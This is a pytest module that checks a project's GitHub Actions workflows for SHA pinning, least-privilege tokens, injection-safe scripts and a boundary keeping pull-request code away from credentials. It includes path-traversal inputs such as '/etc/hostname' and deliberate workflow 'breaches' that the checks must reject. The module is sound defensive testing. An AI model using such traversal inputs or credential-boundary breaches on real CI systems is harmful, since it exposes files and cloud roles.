"""The GitHub Actions workflows: schema-valid, pinned, least-privileged, injection-safe, and wired to
what `fleet` prints.

`.github/workflows/pr.yml` tests the PR (`test`) and synthesizes it (`synth-head`) with the PR's code
and no credential; judges it with the BASE branch's code only - the phase rules (`phases`), the stack
diff, the guard and what the merge would run (`judge`, from the synth-head artifact) - and plans each
changed stack against state (`plan`: the base's `fleet action` and `fleet.gate.plan_inputs`, then
terraform on the artifact). The boundary is tested as a property of the parsed YAML: which jobs run
the PR's code, which hold a credential or a write token, and that no job is both.
`.github/workflows/deploy.yml` deploys a merge: `step` runs `python -m fleet step --json`, the
slots `stack-1` ... `stack-N` each call `.github/workflows/stack.yml` for one stack in order, then
`checks` runs the step's `python -m fleet check` commands. `stack.yml` writes a saved plan, shows
it in the job summary, waits for the stack's environment and applies exactly that plan.

Besides the static checks, the `run:` scripts are executed offline as GitHub runs them (`bash -e`)
with fake `pipenv`/`npx`/`terraform` first on PATH, and the github-script bodies with a fake GitHub
API in node. The `fleet validate` output pasted in docs/fleet-file.md is the real command's output.
"""

from __future__ import annotations

import copy
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from fleet import names
from fleet.gate.comment import MARKER
from fleet.gate.owners import NOT_GATE_AFFECTING, codeowners, codeowners_owners, gate_affecting
from fleet.lifecycle import DEFAULT_WEIGHT_STEPS
from fleet.model.load import load_fleet
from fleet.ops.defaults import MAX_WAIT_MINUTES
from fleet.ops.pipeline import LOCAL_STATE, MAX_STACK_JOBS, merged_step
from support.cli import run_fleet
from support.fleets import example_data
from support.paths import ROOT
from support.transitions import TRANSITIONS

WORKFLOWS = ROOT / ".github" / "workflows"
PR = WORKFLOWS / "pr.yml"
DEPLOY = WORKFLOWS / "deploy.yml"
STACK = WORKFLOWS / "stack.yml"
ALL = (PR, DEPLOY, STACK)
LOCAL_STACK_WORKFLOW = "./.github/workflows/stack.yml"
VPC_RUNNER = "${{ fromJSON(vars.EPHEMERAL_EKS_RUNNER || '\"ubuntu-latest\"') }}"
PR_CODE_JOBS = ("test", "synth-head")
"""The pr.yml jobs that run the PR's own code (its Makefile, tests, main.py): no credential there."""

needs_schema = pytest.mark.skipif(
    importlib.util.find_spec("check_jsonschema") is None,
    reason="check-jsonschema is not installed (make deps)",
)
needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not on PATH")
needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not on PATH")


@pytest.fixture(autouse=True)
def _not_on_a_ci_runner(monkeypatch):
    """`merged_step` and `fleet action` refuse local state where CI is set; the examples use it."""
    monkeypatch.delenv("CI", raising=False)


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())


def triggers(doc: dict[str, Any]) -> Any:
    """PyYAML (YAML 1.1) reads the key `on` as the boolean True."""
    return doc["on"] if "on" in doc else doc[True]


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return job.get("steps", [])


def action_of(step: dict[str, Any]) -> str:
    return step.get("uses", "").split("@")[0]


def steps_using(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in steps(job) if action_of(s) == action]


def step_using(job: dict[str, Any], action: str) -> dict[str, Any]:
    found = steps_using(job, action)
    assert len(found) == 1, f"expected one step using {action}, found {len(found)}"
    return found[0]


def step_with_id(job: dict[str, Any], step_id: str) -> dict[str, Any]:
    found = [s for s in steps(job) if s.get("id") == step_id]
    assert len(found) == 1, f"expected one step with id {step_id}"
    return found[0]


def run_step_named(job: dict[str, Any], fragment: str) -> dict[str, Any]:
    found = [s for s in steps(job) if "run" in s and fragment in s.get("name", "")]
    assert len(found) == 1, f"expected one run step named like {fragment!r}"
    return found[0]


def runs(job: dict[str, Any]) -> list[str]:
    return [s["run"] for s in steps(job) if "run" in s]


def all_steps(doc: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for job in doc["jobs"].values() for s in steps(job)]


def as_list(value: str | list[str] | None) -> list[str]:
    return [] if value is None else [value] if isinstance(value, str) else list(value)


def roles(job: dict[str, Any]) -> list[str]:
    return [s["with"]["role-to-assume"] for s in steps_using(job, "aws-actions/configure-aws-credentials")]


@pytest.fixture(scope="module")
def pr() -> dict[str, Any]:
    return load(PR)


@pytest.fixture(scope="module")
def deploy() -> dict[str, Any]:
    return load(DEPLOY)


@pytest.fixture(scope="module")
def stack() -> dict[str, Any]:
    return load(STACK)


@pytest.fixture(scope="module")
def docs() -> dict[Path, dict[str, Any]]:
    return {path: load(path) for path in ALL}


# --- GitHub's workflow schema (check-jsonschema ships it, so this runs offline) -------------


def check_workflow(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )


@needs_schema
@pytest.mark.parametrize("path", ALL, ids=lambda p: p.name)
def test_workflow_validates_against_githubs_schema(path):
    result = check_workflow(path)
    assert result.returncode == 0, result.stdout + result.stderr


def write_copy(path: Path, doc: dict[str, Any]) -> Path:
    doc = {("on" if key is True else key): value for key, value in doc.items()}
    path.write_text(yaml.safe_dump(doc, sort_keys=False))  # PyYAML quotes the key: 'on'
    return path


def _without_runs_on(doc: dict[str, Any]) -> dict[str, Any]:
    del doc["jobs"]["test"]["runs-on"]
    return doc


def _unknown_top_level_key(doc: dict[str, Any]) -> dict[str, Any]:
    doc["triggers-on"] = "push"
    return doc


@needs_schema
def test_a_round_tripped_copy_still_validates(tmp_path, pr):
    """The control for the next test: the copy fails only for what was broken in it."""
    result = check_workflow(write_copy(tmp_path / "pr.yml", copy.deepcopy(pr)))
    assert result.returncode == 0, result.stdout + result.stderr


@needs_schema
@pytest.mark.parametrize("breakage", [_without_runs_on, _unknown_top_level_key], ids=["no-runs-on", "unknown-key"])
def test_schema_check_rejects_a_broken_workflow(tmp_path, pr, breakage):
    result = check_workflow(write_copy(tmp_path / "pr.yml", breakage(copy.deepcopy(pr))))
    assert result.returncode == 1, "the schema check accepted a broken workflow, so it cannot fail"
    assert "Schema validation errors" in result.stdout + result.stderr


# --- supply chain: every action pinned by commit SHA, its tag in a comment ----------------------

USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(?P<ref>\S+)(?P<rest>.*)$")
SHA_PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
TAG_COMMENT = re.compile(r"^\s+#\s*v\d+(\.\d+){0,2}\b")


def unpinned(text: str) -> list[str]:
    """Every `uses:` line not pinned as `owner/repo@<40-hex sha> # vX[.Y[.Z]]`; local workflows exempt."""
    bad = []
    for line in text.splitlines():
        match = USES_LINE.match(line)
        if not match or match.group("ref").startswith("./"):
            continue
        if not (SHA_PINNED.match(match.group("ref")) and TAG_COMMENT.match(match.group("rest"))):
            bad.append(line.strip())
    return bad


SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"


@pytest.mark.parametrize(
    ("line", "pinned"),
    [
        (f"      - uses: actions/checkout@{SHA} # v4.2.2", True),
        (f"    uses: actions/checkout@{SHA}  #v4", True),
        (f"uses: github/codeql-action/init@{SHA} # v3.28.0", True),
        ("    uses: ./.github/workflows/stack.yml", True),
        ("      - uses: actions/checkout@v4", False),
        ("      - uses: actions/checkout@v4.2.2 # v4.2.2", False),
        (f"      - uses: actions/checkout@{SHA}", False),  # no tag comment
        (f"      - uses: actions/checkout@{SHA} # main", False),
        (f"      - uses: actions/checkout@{SHA[:12]} # v4", False),  # short SHA
        ("      - uses: actions/checkout@main # v4", False),
        (f"      - uses: actions/checkout@{SHA.upper()} # v4", False),
    ],
)
def test_the_pin_check_accepts_only_a_full_sha_with_its_tag(line, pinned):
    assert (unpinned(line) == []) is pinned


def test_every_uses_line_is_seen_by_the_pin_check(docs):
    """The line-based check sees every `uses:` the parsed workflows hold (steps and reusable calls)."""
    for path, doc in docs.items():
        parsed = [s["uses"] for s in all_steps(doc) if "uses" in s]
        parsed += [job["uses"] for job in doc["jobs"].values() if "uses" in job]
        lines = [m.group("ref") for m in map(USES_LINE.match, path.read_text().splitlines()) if m]
        assert sorted(lines) == sorted(parsed), path.name


def test_every_action_is_pinned_to_a_full_commit_sha_with_its_tag_in_a_comment():
    """zizmor's unpinned-uses: a tag can be moved to other code; a commit SHA cannot."""
    found = {path.name: unpinned(path.read_text()) for path in ALL}
    assert not any(found.values()), "pin by `owner/repo@<40-hex sha> # vX.Y.Z`:\n" + "\n".join(
        f"{name}: {line}" for name, lines in found.items() for line in lines
    )


def test_only_local_reusable_workflows_are_called(docs):
    calls = [job["uses"] for doc in docs.values() for job in doc["jobs"].values() if "uses" in job]
    assert calls and set(calls) == {LOCAL_STACK_WORKFLOW}
    assert (ROOT / LOCAL_STACK_WORKFLOW).is_file()


# --- credentials and permissions --------------------------------------------------------------


PUSHES = {("deploy.yml", "deployed")}
"""The one job that keeps its checkout's credentials: it pushes the fleet-deployed tag."""


def test_every_checkout_drops_its_credentials_unless_its_job_pushes(docs):
    checkouts = [
        (p.name, name, s)
        for p, d in docs.items()
        for name, job in d["jobs"].items()
        for s in steps(job)
        if action_of(s) == "actions/checkout"
    ]
    assert checkouts
    for path, name, step in checkouts:
        kept = (path, name) in PUSHES
        assert step.get("with", {}).get("persist-credentials") is kept, f"{path} {name}: {step}"
        if kept:
            assert any("git push" in s.get("run", "") for s in steps(docs_by_name(docs)[path]["jobs"][name]))


def test_every_workflow_grants_nothing_at_the_top(docs):
    for path, doc in docs.items():
        assert doc["permissions"] == {}, path.name


EXPECTED_PERMISSIONS = {
    "pr.yml": {
        "test": {"contents": "read"},
        "phases": {"contents": "read", "id-token": "write"},
        "synth-head": {"contents": "read"},
        "judge": {"contents": "read", "id-token": "write", "pull-requests": "write"},
        "plan": {"contents": "read", "id-token": "write", "pull-requests": "write"},
    },
    "deploy.yml": {
        "step": {"contents": "read"},
        **{f"stack-{i}": {"contents": "read", "id-token": "write"} for i in range(1, MAX_STACK_JOBS + 1)},
        "shift": {"contents": "read", "id-token": "write"},
        "checks": {"contents": "read", "id-token": "write"},
        "deployed": {"contents": "write"},
        "next-step": {"contents": "read", "id-token": "write"},
    },
    "stack.yml": {
        "plan": {"contents": "read", "id-token": "write"},
        "apply": {"contents": "read", "id-token": "write"},
    },
}


def test_every_job_names_its_least_permissions(docs):
    for path, doc in docs.items():
        granted = {name: job.get("permissions") for name, job in doc["jobs"].items()}
        assert granted == EXPECTED_PERMISSIONS[path.name], path.name


def test_a_write_permission_is_held_only_where_a_step_uses_it(docs, stack):
    """id-token: write only where AWS credentials are configured (or in a call of stack.yml, whose
    jobs do), pull-requests: write only where a github-script writes the PR comment."""
    called = {k for job in stack["jobs"].values() for k, v in job["permissions"].items() if v == "write"}
    for path, doc in docs.items():
        for name, job in doc["jobs"].items():
            writes = {k for k, v in job["permissions"].items() if v != "read"}
            needed = set()
            if job.get("uses") == LOCAL_STACK_WORKFLOW:
                needed |= called
            if roles(job):
                needed.add("id-token")
            if steps_using(job, "actions/github-script"):
                needed.add("pull-requests")
            if (path.name, name) in PUSHES:
                needed.add("contents")
            assert writes == needed, f"{path.name} {name}: holds {sorted(writes)}, uses {sorted(needed)}"
            assert set(job["permissions"].values()) <= {"read", "write"}


APP_KEY = "${{ secrets.FLEET_APP_PRIVATE_KEY }}"


def test_no_workflow_uses_a_long_lived_secret(docs):
    """OIDC roles only; one exception: the next-step App's private key, given to
    create-github-app-token alone (a GitHub App has no OIDC)."""
    for path, doc in docs.items():
        text = path.read_text()
        if path.name == "deploy.yml":
            app = [s for s in steps(doc["jobs"]["next-step"]) if action_of(s) == "actions/create-github-app-token"]
            assert len(app) == 1 and app[0]["with"]["private-key"] == APP_KEY
            text = text.replace(APP_KEY, "", 1)
        assert "secrets." not in text, f"{path.name}: OIDC roles only"


def test_node_is_22_or_newer_wherever_it_is_set(docs):
    versions = [
        str(s["with"]["node-version"]) for d in docs.values() for s in all_steps(d) if "setup-node" in action_of(s)
    ]
    assert versions
    for version in versions:
        assert int(re.match(r"(\d+)", version).group(1)) >= 22, version


def test_no_script_interpolates_an_expression(docs):
    """Script injection: `${{ }}` is expanded into the script's text before the shell or node reads
    it; a branch name, a label, a dispatch input or a step output could carry code. Every value
    reaches a script through `env:` instead."""
    for path, doc in docs.items():
        for step in all_steps(doc):
            for script in (step.get("run", ""), step.get("with", {}).get("script", "")):
                assert "${{" not in script, f"{path.name}: {step.get('name') or step.get('uses')}"


# --- pr.yml -----------------------------------------------------------------------------------


def test_pr_runs_on_pull_request_with_one_concurrency_group_per_pr(pr):
    assert set(triggers(pr)) == {"pull_request"}
    assert "github.event.pull_request.number" in pr["concurrency"]["group"]
    assert pr["concurrency"]["cancel-in-progress"] is True


def test_pr_has_exactly_the_jobs_of_the_boundary(pr):
    assert set(pr["jobs"]) == {"test", "synth-head", "phases", "judge", "plan"}


def test_test_job_runs_make_test_and_checkov_on_the_prs_stacks(pr):
    job = pr["jobs"]["test"]
    assert step_using(job, "actions/checkout")["with"]["fetch-depth"] == 0
    assert str(step_using(job, "actions/setup-python")["with"]["python-version"]) == "3.11"
    scripts = [r.strip() for r in runs(job)]
    assert scripts[0] == "make test"
    assert "make synth" in scripts[1] and "checkov -d cdktf.out/stacks" in scripts[1]


@pytest.mark.parametrize(("target", "quick"), [("test", False), ("test-quick", True)])
def test_only_the_quick_loop_draws_fewer_examples(target, quick):
    """`make test` (what CI and the PR's test job run) draws every property test's examples; only
    `make test-quick` sets QUICK_LOOP (tests/support/examples.py). Read from make's dry run."""
    env = {k: v for k, v in os.environ.items() if k not in ("QUICK_LOOP", "MAKEFLAGS", "PYTEST_WORKERS")}
    dry = subprocess.run(["make", "-n", target], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    assert dry.returncode == 0, dry.stderr
    (pytest_line,) = [line for line in dry.stdout.splitlines() if "pytest" in line]
    assert ("QUICK_LOOP=1" in pytest_line) is quick, pytest_line


# The boundary, as properties of the parsed workflow: which checkout a job runs code from, and
# what it holds. A checkout of the PR at the workspace root (no `ref`, no `path`) is PR code: every
# `run:` there executes in its tree (its Makefile, its main.py). A checkout under `path:` is read
# only as data by commands run from the base's checkout (`.gate-base/`, `ref: github.base_ref`).

BASE_CHECKOUT = {"ref": "${{ github.base_ref }}", "path": ".gate-base", "persist-credentials": False}


def checkouts(job: dict[str, Any]) -> list[dict[str, Any]]:
    return [s.get("with", {}) for s in steps_using(job, "actions/checkout")]


def runs_pr_code(job: dict[str, Any]) -> bool:
    """The job checks out the PR where its scripts run (the workspace root)."""
    return any("ref" not in c and "path" not in c for c in checkouts(job))


def holds_a_credential(job: dict[str, Any]) -> bool:
    """AWS credentials, an OIDC token, or a token that writes anything."""
    permissions = job.get("permissions", {})
    return bool(roles(job)) or any(v == "write" for v in permissions.values())


COMMAND_WORD = re.compile(r"(?:^|[;&|({]|\$\()\s*((?:pipenv run python|make|npx|npm|python3?|bash|sh)\b[^;|&)]*)")
"""A command that runs code, where the shell reads a command (not inside an echo's text)."""


def boundary_problems(doc: dict[str, Any]) -> list[str]:
    """Where a workflow breaks the boundary, one line each (none: it holds)."""
    problems = []
    for name, job in doc["jobs"].items():
        if runs_pr_code(job):
            if job.get("permissions") != {"contents": "read"}:
                problems.append(f"{name}: runs PR code with permissions {job.get('permissions')}")
            if roles(job) or "AWS_" in json.dumps(job) or "secrets." in json.dumps(job):
                problems.append(f"{name}: runs PR code with a credential")
            if steps_using(job, "actions/github-script"):
                problems.append(f"{name}: runs PR code beside a script that writes the PR")
            if steps_using(job, "actions/download-artifact"):
                problems.append(f"{name}: runs PR code on what another job made")
            if "outputs" in job:
                problems.append(f"{name}: runs PR code and hands on job outputs (a verdict could rest on them)")
            if "EPHEMERAL_EKS_RUNNER" in json.dumps(job["runs-on"]):
                problems.append(f"{name}: runs PR code on the runner inside the VPC")
        if any(c.get("persist-credentials") is not False for c in checkouts(job)) and name != "deployed":
            problems.append(f"{name}: a checkout keeps its git credential")
        if not holds_a_credential(job):
            continue
        if runs_pr_code(job):
            continue  # said above
        code = [c for c in checkouts(job) if c.get("path") == ".gate-base"]
        data = [c for c in checkouts(job) if c.get("path") != ".gate-base"]
        if len(code) != 1 or {k: code[0].get(k) for k in BASE_CHECKOUT} != BASE_CHECKOUT:
            problems.append(f"{name}: holds a credential without the base checkout for code")
        if any(c.get("path") != "head" or "ref" in c for c in data):
            problems.append(f"{name}: holds a credential and checks out something but the base and the PR's data")
        if steps_using(job, "actions/setup-node") and name != "judge":
            problems.append(f"{name}: installs node where it holds a credential")
        for step in steps(job):
            if step.get("uses", "").startswith("./"):
                problems.append(f"{name}: runs an action of a checkout")
        for script in runs(job):
            for line in (line.strip() for line in script.splitlines()):
                for word in COMMAND_WORD.findall(line):
                    if not word.startswith(("pipenv run python", "make -C .gate-base ")):
                        problems.append(f"{name}: runs {word.strip()!r}")
                    elif word.startswith("pipenv run python") and not re.search(
                        r"\bcd \.gate-base\b", script[: script.index(word)]
                    ):
                        problems.append(f"{name}: runs {word.strip()!r} outside .gate-base")
                if re.search(r"\b(?:cd|make -C) +\.?\.?/?head\b", line) or "cdktf.json" in line or "main.py" in line:
                    problems.append(f"{name}: runs the PR's code: {line}")
    return problems


def test_the_pr_gate_keeps_its_boundary(pr):
    """PR code runs only in jobs with no credential, no write token and no part of the verdict;
    each job with a credential or a write token runs the base's code and reads the PR as data."""
    assert boundary_problems(pr) == []
    assert {name for name, job in pr["jobs"].items() if runs_pr_code(job)} == set(PR_CODE_JOBS)
    assert sorted(name for name, job in pr["jobs"].items() if holds_a_credential(job)) == ["judge", "phases", "plan"]
    uploads = [
        (n, s["with"]["name"]) for n, job in pr["jobs"].items() for s in steps_using(job, "actions/upload-artifact")
    ]
    assert uploads == [("synth-head", "head-synth")], "what a PR-code job hands on: its synth, read as data"


def _job(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return doc["jobs"][name]


def _judge_makes_deps(doc: dict[str, Any]) -> None:
    _job(doc, "judge")["steps"].insert(2, {"name": "make deps", "run": "make deps"})


def _judge_runs_the_heads_module(doc: dict[str, Any]) -> None:
    _job(doc, "judge")["steps"].insert(2, {"run": "cd head && pipenv run python -m fleet diff --base x"})


def _synth_with_a_role(doc: dict[str, Any]) -> None:
    job = _job(doc, "synth-head")
    job["permissions"]["id-token"] = "write"
    job["steps"].insert(1, copy.deepcopy(step_using(_job(doc, "plan"), "aws-actions/configure-aws-credentials")))


def _plan_checks_out_the_pr_as_code(doc: dict[str, Any]) -> None:
    del steps_using(_job(doc, "plan"), "actions/checkout")[0]["with"]["path"]


def _test_writes_the_comment(doc: dict[str, Any]) -> None:
    _job(doc, "test")["permissions"]["pull-requests"] = "write"


def _synth_hands_on_a_verdict(doc: dict[str, Any]) -> None:
    _job(doc, "synth-head")["outputs"] = {"stacks": "${{ steps.x.outputs.stacks }}"}


def _plan_synthesizes(doc: dict[str, Any]) -> None:
    step_with_id(_job(doc, "plan"), "plan")["run"] = (
        "npx cdktf synth\n" + step_with_id(_job(doc, "plan"), "plan")["run"]
    )


@pytest.mark.parametrize(
    "breach",
    [
        _judge_makes_deps,
        _judge_runs_the_heads_module,
        _synth_with_a_role,
        _plan_checks_out_the_pr_as_code,
        _test_writes_the_comment,
        _synth_hands_on_a_verdict,
        _plan_synthesizes,
    ],
    ids=lambda f: f.__name__.strip("_"),
)
def test_the_boundary_check_sees_each_breach(pr, breach):
    """The control for the test above: each of these layouts is refused."""
    doc = copy.deepcopy(pr)
    breach(doc)
    assert boundary_problems(doc)


def test_the_judge_never_runs_the_prs_code(pr):
    """The PR's synth is an artifact; `fleet diff --head DIR` reads it and never synthesizes the
    head (tests/test_fleet_diff.py: a --head directory is read, not built), and the base side is
    synthesized from the base revision. No `make deps` of the head, no head cdktf.json, no npx."""
    job = pr["jobs"]["judge"]
    download = step_using(job, "actions/download-artifact")
    assert download["with"] == {"name": "head-synth", "path": "head.out"}
    assert download["if"] == "needs.synth-head.result == 'success'"
    text = "\n".join(runs(job))
    assert "npx" not in text and "make deps" not in text and "make -C head" not in text
    diff = step_with_id(job, "diff")["run"]
    command = " ".join(
        line.strip().rstrip("\\") for line in diff.splitlines() if "fleet diff" in line or "--head" in line
    )
    assert "cd .gate-base && pipenv run python -m fleet diff --repo ../head" in command
    assert "--head ../head.out" in command and "--fleet fleet.yaml" in command
    assert text.count("pipenv run python -m fleet diff") == 1


def test_the_plan_jobs_run_no_pr_code_and_check_the_artifact_before_any_credential(pr):
    job = pr["jobs"]["plan"]
    head, base = checkouts(job)
    assert head["path"] == "head" and head["sparse-checkout"] == "fleet.yaml", "data: the PR's fleet file only"
    assert head["sparse-checkout-cone-mode"] is False
    assert {k: base[k] for k in BASE_CHECKOUT} == BASE_CHECKOUT
    order = [s.get("id") or action_of(s) for s in steps(job)]
    assert order.index("actions/download-artifact") < order.index("inputs")
    assert order.index("inputs") < order.index("aws-actions/configure-aws-credentials") < order.index("plan")
    inputs = step_with_id(job, "inputs")["run"]
    assert inputs.lstrip().startswith("cd .gate-base\n")
    assert 'pipenv run python -m fleet action "${STACK}" ../head/fleet.yaml' in inputs
    assert 'pipenv run python -m fleet.gate.plan_inputs "../head.out/stacks/${STACK}"' in inputs
    assert step_using(job, "actions/download-artifact")["with"] == {"name": "head-synth", "path": "head.out"}
    plan = step_with_id(job, "plan")["run"]
    assert "pipenv" not in plan and "npx" not in plan and "make" not in plan, "terraform only"
    assert not steps_using(job, "actions/setup-node")


PHASES_COMMAND = "python -m fleet plan ../head/fleet.yaml --base fleet.yaml"


def test_phases_job_checks_out_the_pr_as_data_and_the_base_as_code(pr):
    job = pr["jobs"]["phases"]
    head, base = steps_using(job, "actions/checkout")
    assert head["with"]["path"] == "head" and "ref" not in head["with"]
    assert base["with"]["ref"] == "${{ github.base_ref }}" and base["with"]["path"] == ".gate-base"
    script = step_with_id(job, "phases")["run"]
    lines = [line.strip() for line in script.splitlines()]
    assert "cd .gate-base" in lines
    command = next(i for i, line in enumerate(lines) if PHASES_COMMAND in line)
    assert lines.index("cd .gate-base") < command
    assert "python -m fleet validate ../head/fleet.yaml" in lines[command]


def test_no_phases_step_runs_anything_from_the_head_checkout(pr):
    """The head checkout is data: its fleet file is read, nothing in it runs (no Makefile, no
    action, no module); every command runs in `.gate-base/`."""
    job = pr["jobs"]["phases"]
    for step in steps(job):
        assert not step.get("uses", "").startswith("./"), step
        assert "head" not in json.dumps(step.get("with", {})).replace('"path": "head"', ""), step
    for script in runs(job):
        commands = [line.strip() for line in script.splitlines() if line.strip()]
        assert all(
            c.startswith(("make -C .gate-base ", "set ", "cd .gate-base", "code=$?", "echo ", "cat ../phases.txt"))
            or c.startswith(
                ("{ pipenv run python -m fleet ", 'delimiter="phases-$(openssl rand -hex 16)"', '{ echo "exit_code=')
            )
            for c in commands
        ), commands
        assert re.findall(r"\S*head\S*", script) in ([], ["../head/fleet.yaml", "../head/fleet.yaml"]), script
    assert not steps_using(job, "actions/setup-node"), "nothing of the PR's (npm) is installed"


def test_phases_job_reads_state_with_the_state_read_role_only(pr):
    job = pr["jobs"]["phases"]
    assert roles(job) == ["${{ vars.AWS_STATE_READ_ROLE_ARN }}"]


def test_the_phase_refusals_reach_the_judge_as_job_outputs_never_an_artifact(pr):
    """Any job of the run could upload an artifact (PR code can read the runner's tokens), so
    nothing the verdict rests on travels as one: the phases' code and text are job outputs."""
    job = pr["jobs"]["phases"]
    assert job["outputs"] == {
        "exit_code": "${{ steps.phases.outputs.exit_code }}",
        "text": "${{ steps.phases.outputs.text }}",
    }
    assert not steps_using(job, "actions/upload-artifact")
    env = step_with_id(pr["jobs"]["judge"], "diff")["env"]
    assert env["PHASES_EXIT"] == "${{ needs.phases.outputs.exit_code }}"
    assert env["PHASES_TEXT"] == "${{ needs.phases.outputs.text }}"
    downloads = [
        s["with"]["name"] for job in pr["jobs"].values() for s in steps_using(job, "actions/download-artifact")
    ]
    assert set(downloads) == {"head-synth"}


def test_judge_holds_only_the_state_read_role(pr):
    """It reads the services' shift records (as the deploy's step does), nothing else of AWS."""
    job = pr["jobs"]["judge"]
    assert roles(job) == ["${{ vars.AWS_STATE_READ_ROLE_ARN }}"]
    assert set(re.findall(r"AWS_[A-Z_]+", json.dumps(job))) == {"AWS_STATE_READ_ROLE_ARN", "AWS_REGION"}


def test_no_job_of_the_pr_gate_holds_a_role_that_reads_a_cluster(pr):
    """The plan role reads state; nothing in pr.yml gets the deploy or check role, nor a runner
    inside the VPC that can reach a cluster's private endpoint."""
    assert {name: roles(job) for name, job in pr["jobs"].items()} == {
        "test": [],
        "synth-head": [],
        "phases": ["${{ vars.AWS_STATE_READ_ROLE_ARN }}"],
        "judge": ["${{ vars.AWS_STATE_READ_ROLE_ARN }}"],
        "plan": ["${{ vars.AWS_PLAN_ROLE_ARN }}"],
    }
    text = PR.read_text()
    for role in ("AWS_DEPLOY_ROLE_ARN", "AWS_CHECK_ROLE_ARN"):
        assert role not in text
    for name, job in pr["jobs"].items():
        assert "EPHEMERAL_EKS_RUNNER" not in json.dumps(job["runs-on"]), name


def test_synth_head_synthesizes_the_prs_fleet_file_as_the_deploy_does_and_uploads_it(pr):
    job = pr["jobs"]["synth-head"]
    assert "needs" not in job
    synth = run_step_named(job, "synthesize")
    assert synth["env"] == {"CDKTF_OUTDIR": "cdktf.out"}, "the deploy sets no FLEET: fleet.yaml"
    assert synth["run"].strip() == json.loads((ROOT / "cdktf.json").read_text())["app"], "cdktf.json's app command"
    upload = step_using(job, "actions/upload-artifact")["with"]
    assert (upload["name"], upload["path"], upload["if-no-files-found"]) == ("head-synth", "cdktf.out", "error")
    assert [r.strip() for r in runs(job)][0] == "make deps"


def test_the_judge_runs_after_the_synth_and_the_phases_and_synthesizes_the_base_once(pr):
    job = pr["jobs"]["judge"]
    assert set(as_list(job["needs"])) == {"phases", "synth-head"}
    assert job["if"] == "${{ !cancelled() }}", "a failed synth or phase check still gets its comment"
    head, base = steps_using(job, "actions/checkout")
    assert head["with"]["fetch-depth"] == 0 and head["with"]["path"] == "head"
    assert base["with"]["ref"] == "${{ github.base_ref }}" and base["with"]["path"] == ".gate-base"
    diff = step_with_id(job, "diff")["run"]
    assert '--base "origin/${BASE_REF}"' in diff and "--stacks-out ../stacks.txt" in diff
    assert "${STATE_MIGRATED}" in diff and "migrate-state" in job["env"]["STATE_MIGRATED"]
    assert "make -C .gate-base .venv/.synced" in [r.strip() for r in runs(job)]


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True).stdout


def test_the_judges_fleet_diff_synthesizes_the_base_revision_only(tmp_path, monkeypatch):
    """`fleet diff --repo ../head --base origin/<base> --head ../head.out`: the head's stacks are
    read from the artifact, the one synth runs in a checkout of the base revision (never the PR's
    working tree), and the comment still names the gate-affecting paths the PR changes."""
    from fleet.gate import sources

    repo = tmp_path / "head"
    repo.mkdir()
    (repo / "main.py").write_text("BASE\n")
    shutil.copy(ROOT / "examples" / "steady.yaml", repo / "fleet.yaml")
    _git(repo, "init", "-q")
    _git(repo, "add", ".")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "base")
    (repo / "main.py").write_text("THE PR'S CODE\n")
    (repo / "stacks").mkdir()
    (repo / "stacks" / "new.py").write_text("")
    (repo / "docs").mkdir()
    (repo / "docs" / "new.md").write_text("")
    outdir = tmp_path / "head.out"
    (outdir / "stacks" / "shared").mkdir(parents=True)
    (outdir / "stacks" / "shared" / "cdk.tf.json").write_text("{}")
    synthesized: list[tuple[str, str]] = []

    class Done:
        label = "base"

        def result(self) -> dict[str, Any]:
            return {}

    def fake_start_synth(cwd: Path, fleet: str, label: str) -> Done:
        synthesized.append(((cwd / "main.py").read_text(), fleet))
        assert cwd.resolve() != repo.resolve()
        return Done()

    monkeypatch.setattr(sources, "start_synth", fake_start_synth)
    sides = sources.collect("HEAD", str(outdir), "fleet.yaml", None, repo)
    assert synthesized == [("BASE\n", "fleet.yaml")], "one synth, of the base revision's code"
    assert sides.head == {"shared": {}}
    assert sides.gate_files == ["main.py", "stacks/new.py"], "docs/ needs no owner; the rest does"


@pytest.mark.parametrize(
    ("stacks", "message"),
    [
        ({"../../x": {"synthesizedStackPath": "stacks/x/cdk.tf.json"}}, "is not a plain name"),
        ({"shared": {"synthesizedStackPath": "../../outside.json"}}, "outside the directory"),
        ({"shared": {"synthesizedStackPath": "/etc/hostname"}}, "outside the directory"),
    ],
)
def test_the_judge_reads_the_artifacts_stacks_only_inside_it(tmp_path, stacks, message):
    from fleet.gate.sources import SourceError, read_outdir

    outdir = tmp_path / "out" / "head.out"
    outdir.mkdir(parents=True)
    (tmp_path / "outside.json").write_text("{}")
    (outdir / "manifest.json").write_text(json.dumps({"stacks": stacks}))
    with pytest.raises(SourceError, match=message):
        read_outdir(outdir)


STEP_COMMAND = "python -m fleet step ../head/fleet.yaml --base fleet.yaml --changed ../stacks.txt --markdown"


def test_the_judge_adds_what_the_merge_would_run_with_the_base_code(pr):
    diff = step_with_id(pr["jobs"]["judge"], "diff")["run"]
    assert f"cd .gate-base && pipenv run {STEP_COMMAND}" in diff
    assert diff.index("python -m fleet diff") < diff.index("python -m fleet step")
    assert '"### On merge this runs"' in diff  # the heading of a refusal; `fleet step --markdown` prints its own


def test_the_comment_marker_comes_from_fleet_never_a_literal(docs, pr):
    for path in docs:
        assert MARKER not in path.read_text(), f"{path.name}: the marker is fleet.gate.comment.MARKER"
    for name in ("judge", "plan"):
        job = pr["jobs"][name]
        script = step_using(job, "actions/github-script")
        assert script["env"]["MARKER"] == "${{ steps.marker.outputs.marker }}"
        assert "const MARKER = process.env.MARKER;" in script["with"]["script"]
